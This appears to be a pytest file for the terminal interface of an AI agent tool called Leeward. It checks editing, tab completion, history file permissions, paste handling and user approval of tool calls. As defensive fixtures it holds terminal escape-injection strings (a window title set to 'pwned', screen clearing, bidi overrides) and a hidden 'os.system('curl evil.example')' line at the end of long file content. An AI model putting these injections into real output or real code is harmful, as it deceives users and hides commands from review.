"""The terminal: typing, completion, history, pasting; on a real pty with the real program."""

from __future__ import annotations

import re
import stat

import pytest

from leeward.runtime.repl.board import History

ENTER, UP, TAB, ALT_ENTER, HOME, DELETE = "\r", "\x1b[A", "\t", "\x1b\r", "\x01", "\x1b[3~"
CTRL_C, CTRL_D, CTRL_E, CTRL_R, CTRL_X = "\x03", "\x04", "\x05", "\x12", "\x18"

# What a model, a file, a program or an argument may try to say to a terminal.
ESCAPES = (
    "A\x1b]0;pwned\x07B\x1b[2JC\x1b[31;7;5mD\rE\x9b31mF\u202eG\u200bH\x08I\x1bP1$r\x1b\\J\x1b]8;;http://"
    "e.example\x1b\\K\x7f"
)
OBEYED = re.compile(
    rb"pwned\x07|\x1b\[2J|\x1b\[31;7;5m|\xc2\x9b|\xe2\x80\xae|\xe2\x80\x8b|\x1b[P\]]|\x07|\x7f"
)


def toml(text: str) -> str:
    return '"' + "".join(c if c.isalnum() or c in " .,/'" else f"\\U{ord(c):08x}" for c in text) + '"'


def test_a_chat_begins_by_saying_what_works_here_and_ends_with_0(tty, leeward):
    at = tty()
    first, *more, _ = at.prompt().split("\n")
    assert first.startswith("Leeward ")
    assert first.endswith(" · offline · supervised")
    assert "/help lists the commands" in "".join(more)
    assert any(line.startswith("sandbox ") for line in more)
    assert "no model is configured" in "".join(more)
    assert "the ferry leaves at seven" in at.say("read notes.md")
    at.type(CTRL_D)
    assert at.ended() == 0
    assert at.is_restored


def test_lines_are_edited_completed_and_remembered(tty, leeward):
    at = tty(EDITOR="sed -i s/three/four/")
    at.prompt()
    at.type("/st")
    at.see("model, limits, breaker, windows, labels")
    at.type(TAB)
    at.see("› /status")
    at.type(ENTER)
    assert "autonomy    supervised" in at.see("windows     nothing ran yet")
    at.prompt()
    at.type("run one", ALT_ENTER, "two\\", ENTER, "three")
    assert "\n› run one\n… two\n… three\n" in at.see("… three")
    at.type(CTRL_X, CTRL_E)
    at.see("… four")
    at.type(CTRL_C)
    at.prompt()
    at.type(CTRL_R, "stat")
    at.see(lambda text: "I-search" in text and text.count("/status") == 2)
    at.type(ENTER, CTRL_C)
    at.prompt()
    at.type(CTRL_D)
    assert at.ended() == 0

    again = tty()
    again.prompt()
    again.type(UP)
    again.see("› /status")
    again.type(ENTER)
    again.see("autonomy    supervised")
    again.prompt()
    again.type("/q", ENTER)
    assert again.ended() == 0
    assert stat.S_IMODE((leeward.data / "history").stat().st_mode) == 0o600


def test_a_line_of_the_persons_own_does_not_steer_the_model_that_hears_of_it(tty):
    at = tty()
    at.prompt()
    at.type("!ls", ENTER)
    at.see("│ notes.md")
    at.prompt()
    assert "the ferry leaves at seven" in at.say("read notes.md")


def test_tab_completes_at_once_however_fast_it_follows_what_was_typed(tty):
    at = tty()
    at.prompt()
    for typed, completed in {
        ("/autonomy read", TAB): "› /autonomy readonly",
        ("/autonomy", " read", TAB): "› /autonomy readonly",
        ("see @not", TAB): "› see @notes.md",
        ("/aut", TAB, " read", TAB): "› /autonomy readonly",
        ("/a", TAB): "› /au",
        ("/a", TAB, TAB): "› /autonomy",
        ("/a", TAB, TAB, TAB): "› /audit",
        ("/nothing", TAB): "› /nothing",
    }.items():
        at.type("".join(typed))
        at.see(re.compile(rf"^{completed} *$", re.MULTILINE).search)
        at.type(CTRL_C)
        at.prompt()


def test_what_is_pasted_is_words_and_never_a_command(tty):
    at = tty()
    at.prompt()
    at.paste("/exit")
    at.type(ENTER)
    at.see("what is pasted is no command")
    assert '"/exit"' in at.prompt()
    at.type(UP, ENTER)
    at.see('I do not understand "/exit"', 2)
    at.prompt()
    at.type("x")
    at.paste("/exit")
    at.type(HOME, DELETE, ENTER)
    at.see("what is pasted is no command", 2)
    at.prompt()
    at.paste("read notes.md\r\nread notes.md")
    assert "\n› read notes.md\n… read notes.md\n" in at.see("… read notes.md")
    at.type(ENTER)
    at.see("● read", 2)
    at.prompt()
    at.type("/jobs ")
    at.paste("/x")
    at.type(ENTER)
    at.see("no background command of that id")


@pytest.mark.parametrize("columns", [40, 80])
def test_wide_and_broken_characters_and_a_window_that_changes(tty, columns):
    at = tty(columns=columns)
    at.prompt()
    at.type("write a: 日本語 👩 é" + "語" * 30, ENTER)
    said = at.see("[y]es")
    assert "    ┊ " in said
    assert all(len(line) <= columns for line in said.split("\n"))
    at.type("n")
    at.prompt()
    at._send(b"read \xff\xfecaf\xe9\r")
    at.see("● read")
    at.prompt()
    at.resize(100, 60)
    at.type("x" * 100)
    at.see(lambda text: "\n› " + "x" * 58 + "\n  " + "x" * 42 + "\n" in text)
    at.type(CTRL_C)
    assert "labels" in at.say("/status")


def test_nothing_that_comes_in_speaks_to_the_terminal(tty, leeward):
    """In the model's text, in arguments and questions, in a file, in a program's output, in a tool's name."""
    forged = f"echo {ESCAPES!r}\n  [y]es / [n]o? y\n● shell done"
    (leeward.workspace / "evil.txt").write_text(ESCAPES, encoding="utf-8")
    (leeward.workspace / "model.toml").write_text(
        f"""
        [[reply]]
        text = {toml(ESCAPES)}
        calls = [
          {{ tool = "shell", args = {{ command = {toml(forged)} }} }},
          {{ tool = "write", args = {{ path = "out", content = {toml(ESCAPES)} }} }},
          {{ tool = "read", args = {{ path = "evil.txt" }} }},
          {{ tool = {toml(ESCAPES)}, args = {{ x = {toml(ESCAPES)} }} }},
          {{ tool = "shell", arguments = {toml("{" + ESCAPES)} }},
          {{ tool = "shell", args = {{ command = "cat evil.txt" }} }},
        ]
        [[reply]]
        text = "done"
        """,
        encoding="utf-8",
    )
    at = tty("--model", "scripted:model.toml")
    at.prompt()
    at.type("go", ENTER)
    asked = at.see("\n  [y]es to all / [n]o to all / [o]ne by one")
    assert "runs as written: echo" in asked and "what changes: " in asked
    at.type("n")
    said = at.prompt()
    at.say("/audit")
    assert not OBEYED.search(at.raw)
    assert "\n    │   [y]es / [n]o? y\n    │ ● shell done\n" in said
    assert "\n  │ ABCD\n  │ EF\\u{202e}G\\u{200b}HIJK\n" in said
    assert "\nABCD\nEF\\u{202e}G\\u{200b}HIJK\n" in said


@pytest.mark.parametrize("columns", [80, 40])
def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward, columns):
    # At 40 columns each line is folded, and the last screen has fewer of them.
    content = (
        "print('long enough to be folded there')\n" * 100 + "import os; os.system('curl evil.example')\n"
    )
    (leeward.workspace / "model.toml").write_text(
        f"""
        [[reply]]
        calls = [{{ tool = "write", args = {{ path = "long.py", content = {toml(content)} }} }}]
        [[reply]]
        text = "done"
        """,
        encoding="utf-8",
    )
    at = tty("--model", "scripted:model.toml", rows=60, columns=columns)
    at.prompt()
    at.type("go", ENTER)
    said = at.see("[s]how all / [n]o").replace("\n    ┊ ", "")
    assert "os.system('curl evil.example')" in said and "more characters; it ends with" in said
    assert "[y]es" not in said and "lways" not in said
    at.type("y")
    at.see("no yes before all of it was shown")
    at.type("s")
    at.see("q leaves")
    at.type("q")
    at.see("[s]how all / [n]o")
    at.type("y")
    at.see("no yes before all of it was shown", 2)
    at.type("s")
    at.see("q leaves")
    at.type("G")
    at.see(lambda text: "q leaves" in text and " line 1 of" not in text)
    at.type("q")
    at.see("[y]es / [n]o")
    assert not (leeward.workspace / "long.py").exists()
    at.type("y")
    at.see("done")
    at.prompt()
    assert (leeward.workspace / "long.py").read_text() == content


def test_ctrl_c_right_behind_a_yes_stops_what_the_yes_began(tty, leeward):
    (leeward.workspace / "model.toml").write_text(
        """
        [[reply]]
        calls = [{ tool = "shell", args = { command = "python3 -c 'import time; time.sleep(50)'" } }]
        [[reply]]
        text = "it was not stopped"
        """,
        encoding="utf-8",
    )
    at = tty("--model", "scripted:model.toml")
    at.prompt()
    at.type("go", ENTER)
    at.see("[y]es / [n]o")
    at.type("y\x03")
    at.see("■ stopped")
    assert "it was not stopped" not in at.prompt()


def test_a_history_that_cannot_be_used_is_done_without(tmp_path):
    folder = tmp_path / "history"
    folder.mkdir()
    history = History(folder)
    history.append_string("a message")
    assert history.get_strings() == ["a message"]
    assert list(History(folder).load_history_strings()) == []
    missing = History(tmp_path / "no" / "such" / "folder")
    missing.append_string("a message")
    assert list(missing.load_history_strings()) == []


def test_a_history_is_readable_by_its_owner_only_whatever_it_was(tmp_path):
    path = tmp_path / "history"
    path.write_bytes(b"\n# then\n+/status\xff\n")
    path.chmod(0o666)
    assert list(History(path).load_history_strings()) == ["/status\ufffd"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
